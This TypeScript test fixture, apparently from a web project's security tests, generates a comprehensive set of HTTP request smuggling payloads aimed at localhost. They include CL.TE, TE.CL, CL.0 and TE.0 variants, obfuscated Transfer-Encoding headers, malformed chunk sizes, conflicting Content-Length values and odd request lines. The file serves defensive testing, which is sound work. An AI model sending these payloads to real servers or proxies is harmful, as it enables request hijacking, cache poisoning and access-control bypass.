import { rawRequest } from '../../support/raw-http.ts';

/** A request whose end a proxy and a server could see at different places. */
export type Smuggling = { name: string; bytes: string };

/** The hidden request. Its last header would swallow the first line of the next request on the connection. */
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Swallow: ';
const start = ['POST /api/auth/name-availability HTTP/1.1', 'Host: 127.0.0.1'];
const json = 'Content-Type: application/json';
const chunked = `0\r\n\r\n${hidden}`;
const hiddenInChunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;

const attack = (name: string, headers: string[], body: string): Smuggling => ({
  name,
  bytes: rawRequest([...start, json, ...headers], body),
});

const length = (value: string | number) => `Content-Length: ${value}`;

/** Spellings of the header that one parser may accept and another ignore. */
const encodings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding:\u000bchunked',
  'Transfer-Encoding: \u000cchunked',
  'Transfer-Encoding\r\n : chunked',
  'Transfer-Encoding:\r\n chunked',
  ' Transfer-Encoding: chunked',
  'X: x\r\n Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked\u0000',
  'Tran\u0000sfer-Encoding: chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'tRANSFER-ENCODING: chunked',
];

/** Ends of a chunk that are not the two bytes the standard demands, and sizes that overflow or are no number. */
const chunks = [
  ['bare LF after the size', `0\n\n${hidden}`],
  ['bare CR after the size', `0\r\r${hidden}`],
  ['chunk extension with LF', `0;x=\n\r\n${hidden}`],
  ['chunk extension with a hidden request', `0;${hidden}\r\n\r\n`],
  ['long chunk extension', `1;${'x'.repeat(20_000)}\r\n{\r\n0\r\n\r\n${hidden}`],
  ['size in hexadecimal notation', `0x0\r\n\r\n${hidden}`],
  ['size with a sign', `+0\r\n\r\n${hidden}`],
  ['negative size', `-1\r\n\r\n${hidden}`],
  ['size with a space', `0 \r\n\r\n${hidden}`],
  ['size with an underscore', `0_0\r\n\r\n${hidden}`],
  ['size beyond 64 bits', `10000000000000000\r\n${hidden}`],
  ['size beyond 32 bits', `100000000\r\n${hidden}`],
  ['missing end of a chunk', `1\r\n{0\r\n\r\n${hidden}`],
  ['trailer that sets a length', `0\r\nContent-Length: 60\r\n\r\n${hidden}`],
  ['trailer with a bare LF', `0\r\nX: x\n\r\n${hidden}`],
] as const;

/** Lengths that disagree or are no plain number. */
const lengths = [
  ['two lengths, short first', [length(2), length(2 + hidden.length)]],
  ['two lengths, long first', [length(2 + hidden.length), length(2)]],
  ['list of lengths', [length(`2, ${2 + hidden.length}`)]],
  ['equal lengths', [length(2), length(2)]],
  ['length with a sign', [length('+2')]],
  ['negative length', [length(-2)]],
  ['length in hexadecimal notation', [length('0x2')]],
  ['length with a space', [length('2 0')]],
  ['length with a leading zero', [length('002')]],
  ['length with a decimal point', [length('2.0')]],
  ['length in another script', [length('２')]],
  ['empty length', [length('')]],
  ['folded length', ['Content-Length:\r\n 2']],
  ['length with a space before the colon', ['Content-Length : 2']],
  ['length beyond 64 bits', [length('18446744073709551618')]],
  ['length after a bare LF', ['X: x\nContent-Length: 2']],
  ['length after a bare CR', ['X: x\rContent-Length: 2']],
] as const;

/** First lines and headers that parsers read differently. */
const heads: Smuggling[] = [
  ['two host headers', ['GET / HTTP/1.1', 'Host: 127.0.0.1', 'Host: y']],
  ['space before the version', ['GET /smuggled  HTTP/1.1', 'Host: 127.0.0.1']],
  ['version 0.9', ['GET /smuggled']],
  ['version 1.0 with chunks', ['POST / HTTP/1.0', 'Host: 127.0.0.1', 'Transfer-Encoding: chunked']],
  ['version 1.2', ['GET / HTTP/1.2', 'Host: 127.0.0.1']],
  [
    'connection that drops a header',
    ['GET / HTTP/1.1', 'Host: 127.0.0.1', 'Connection: Content-Length'],
  ],
  ['upgrade', ['GET / HTTP/1.1', 'Host: 127.0.0.1', 'Connection: Upgrade', 'Upgrade: h2c']],
  ['expect with a body', [...start, 'Expect: 100-continue', length(hidden.length)]],
  ['absolute target', ['GET http://other/smuggled HTTP/1.1', 'Host: 127.0.0.1']],
  ['line break in the target', ['GET /%0d%0aX:%20x HTTP/1.1', 'Host: 127.0.0.1']],
  ['body of a GET', ['GET /healthz HTTP/1.1', 'Host: 127.0.0.1', length(hidden.length)]],
  ['body of a HEAD', ['HEAD /healthz HTTP/1.1', 'Host: 127.0.0.1', length(hidden.length)]],
].map(([name, lines]) => ({ name: String(name), bytes: rawRequest(lines as string[], hidden) }));

/** Every known way to hide a request within another: CL.TE, TE.CL, TE.TE, CL.CL, chunks and first lines. */
export const smugglings: Smuggling[] = [
  ...encodings.flatMap((encoding) => [
    attack(`CL.TE ${encoding}`, [length(chunked.length), encoding], chunked),
    attack(`TE.CL ${encoding}`, [encoding, length(4)], hiddenInChunk),
  ]),
  attack('CL.TE', [length(chunked.length), 'Transfer-Encoding: chunked'], chunked),
  attack('TE.CL', ['Transfer-Encoding: chunked', length(4)], hiddenInChunk),
  attack('CL.0', [length(0)], hidden),
  attack('TE.0', ['Transfer-Encoding: chunked'], hiddenInChunk),
  ...chunks.map(([name, body]) => attack(name, ['Transfer-Encoding: chunked'], body)),
  ...lengths.map(([name, headers]) => attack(name, [...headers], `{}${hidden}`)),
  ...heads,
];
